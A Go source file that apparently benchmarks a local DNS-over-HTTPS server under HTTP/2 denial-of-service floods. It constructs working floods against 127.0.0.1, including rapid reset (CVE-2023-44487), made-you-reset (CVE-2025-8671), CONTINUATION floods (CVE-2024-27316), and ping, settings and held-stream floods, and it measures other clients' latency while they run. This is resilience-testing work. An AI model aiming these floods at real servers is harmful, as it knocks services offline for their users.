package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// attackers is how many connections of HTTP/2 flood at the same time.
	attackers = 64
	// many is how many streams one of them opens, and how many frames it sends at once.
	many = 1000
	// held is how long one is kept that says nothing more; the server cuts it after five seconds.
	held = 10 * time.Second
)

// attack is what a connection sends: the beginning once, and the rest again and again until
// the server has cut it. One without a rest is held, and nothing is read on any.
type attack struct {
	name        string
	begin, rest []byte
}

// floods lists all. Settings, streams and headers are as RFC 9113 has them.
func floods() ([]attack, error) {
	message := new(dns.Msg).SetQuestion("www.signed.example.", dns.TypeA)
	message.Id = 0
	packet, err := message.Pack()
	if err != nil {
		return nil, err
	}
	get := block(":method", "GET", ":scheme", "https", ":authority", "127.0.0.1", ":path", "/dns-query?dns="+base64.RawURLEncoding.EncodeToString(packet))
	post := block(":method", "POST", ":scheme", "https", ":authority", "127.0.0.1", ":path", "/dns-query", "content-type", "application/dns-message")
	each := func(do func(frames *http2.Framer, id uint32) error) []byte {
		return frames(func(to *http2.Framer) error {
			for i := range uint32(many) {
				if err := do(to, 2*i+1); err != nil {
					return err
				}
			}
			return nil
		})
	}
	ask := func(to *http2.Framer, id uint32) error {
		return to.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: get, EndHeaders: true, EndStream: true})
	}
	settings := func(one ...http2.Setting) []byte {
		return frames(func(to *http2.Framer) error { return to.WriteSettings(one...) })
	}
	unfinished := frames(func(to *http2.Framer) error {
		return to.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: get})
	})
	return []attack{
		{"rapid reset (CVE-2023-44487)", settings(), each(func(to *http2.Framer, id uint32) error {
			if err := ask(to, id); err != nil {
				return err
			}
			return to.WriteRSTStream(id, http2.ErrCodeCancel)
		})},
		{"made you reset (CVE-2025-8671)", settings(), each(func(to *http2.Framer, id uint32) error {
			if err := to.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: post, EndHeaders: true}); err != nil {
				return err
			}
			return to.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4)) // by nothing, which is a fault
		})},
		{"continuations, empty (CVE-2024-27316)", append(settings(), unfinished...), each(func(to *http2.Framer, _ uint32) error { return to.WriteContinuation(1, false, nil) })},
		{"continuations, full", append(settings(), unfinished...), each(func(to *http2.Framer, _ uint32) error { return to.WriteContinuation(1, false, bytes.Repeat(get, 100)) })},
		{"settings", settings(), each(func(to *http2.Framer, id uint32) error {
			return to.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: id})
		})},
		{"pings", settings(), each(func(to *http2.Framer, _ uint32) error { return to.WritePing(false, [8]byte{}) })},
		{"priorities", settings(), each(func(to *http2.Framer, id uint32) error {
			return to.WritePriority(id, http2.PriorityParam{StreamDep: id + 2})
		})},
		{"window updates", settings(), each(func(to *http2.Framer, _ uint32) error { return to.WriteWindowUpdate(0, 1) })},
		{"streams without end", settings(), each(func(to *http2.Framer, id uint32) error {
			return to.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: post, EndHeaders: true})
		})},
		{"questions whose answers are not read", settings(), each(ask)},
		{"no window for answers", append(settings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}), each(ask)...), nil},
		{"handshakes alone", nil, nil},
	}, nil
}

// block encodes fields, in pairs of name and value, without a table.
func block(pairs ...string) []byte {
	var made bytes.Buffer
	coder := hpack.NewEncoder(&made)
	for pair := range slices.Chunk(pairs, 2) {
		_ = coder.WriteField(hpack.HeaderField{Name: pair[0], Value: pair[1], Sensitive: true}) // memory never fails
	}
	return made.Bytes()
}

func frames(write func(to *http2.Framer) error) []byte {
	var made bytes.Buffer
	framer := http2.NewFramer(&made, nil)
	framer.AllowIllegalWrites = true
	_ = write(framer) // memory never fails
	return made.Bytes()
}

// floodAll prints what others wait during each flood, and without one in the same round.
func floodAll(ctx context.Context, to io.Writer, o options) error {
	all, err := floods()
	if err != nil {
		return err
	}
	fmt.Fprintf(to, "%-40s %-6s %8s %9s %9s %9s %6s   without: %9s %9s %9s   %s\n", "flood of HTTP/2, "+fmt.Sprint(attackers)+" connections", "others", "asked", "median", "999/1000", "longest", "lost", "median", "999/1000", "longest", "connections, MB a second")
	for _, one := range all {
		if o.flood != "all" && !strings.Contains(one.name, o.flood) {
			continue
		}
		var best, quiet []probe
		var rate string
		for range o.rounds {
			control, err := o.others(ctx)
			if err != nil {
				return err
			}
			seen, sent, err := one.run(ctx, o)
			if err != nil {
				return err
			}
			if best == nil || longest(seen) < longest(best) {
				best, quiet, rate = seen, control, sent
			}
		}
		for i, seen := range best {
			fmt.Fprintf(to, "%-40s %-6s %8d %9s %9s %9s %6d            %9s %9s %9s   %s\n", one.name, seen.Door, seen.Asked, short(seen.Median), short(seen.Most), short(seen.Longest), seen.Lost, short(quiet[i].Median), short(quiet[i].Most), short(quiet[i].Longest), rate)
		}
	}
	return nil
}

// longest is the longest wait of all doors; who lost something has waited for ever.
func longest(all []probe) time.Duration {
	most := time.Duration(0)
	for _, one := range all {
		most = max(most, one.Longest+time.Duration(one.Lost)*time.Hour)
	}
	return most
}

func short(d time.Duration) string { return fmt.Sprintf("%.2fms", float64(d.Microseconds())/1000) }

// run floods while others ask.
func (a attack) run(ctx context.Context, o options) ([]probe, string, error) {
	flooding, stop := context.WithCancel(ctx)
	var group sync.WaitGroup
	defer group.Wait()
	defer stop()
	var opened, octets atomic.Int64
	handshakes := make(chan struct{}, atOnce)
	for i := range attackers {
		group.Go(func() {
			for flooding.Err() == nil {
				a.once(flooding, handshakes, i, &opened, &octets)
			}
		})
	}
	for opened.Load() < attackers && ctx.Err() == nil {
		time.Sleep(10 * time.Millisecond)
	}
	before, began := [2]int64{opened.Load(), octets.Load()}, time.Now()
	seen, err := o.others(ctx)
	took := time.Since(began).Seconds()
	return seen, fmt.Sprintf("%.0f, %.1f", float64(opened.Load()-before[0])/took, float64(octets.Load()-before[1])/took/1e6), err
}

// once is the life of one connection.
func (a attack) once(ctx context.Context, handshakes chan struct{}, i int, opened, octets *atomic.Int64) {
	handshakes <- struct{}{}
	config := insecure()
	config.NextProtos = []string{"h2"}
	dialer := tls.Dialer{NetDialer: &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 2, 0, byte(i+2))}, Timeout: patience}, Config: config}
	conn, err := dialer.DialContext(ctx, "tcp", fmt.Sprintf("127.0.0.1:%d", portHTTPS))
	<-handshakes
	opened.Add(1)
	if err != nil {
		return
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	if a.begin == nil {
		return
	}
	sent, err := io.WriteString(conn, http2.ClientPreface+string(a.begin))
	octets.Add(int64(sent))
	for err == nil && a.rest != nil {
		_ = conn.SetWriteDeadline(time.Now().Add(held)) // to be seen by the next write
		sent, err = conn.Write(a.rest)
		octets.Add(int64(sent))
	}
	if err == nil && a.rest == nil {
		hold(ctx)
	}
}

// hold waits for longer than the server does.
func hold(ctx context.Context) {
	timer := time.NewTimer(held)
	defer timer.Stop()
	select {
	case <-timer.C:
	case <-ctx.Done():
	}
}
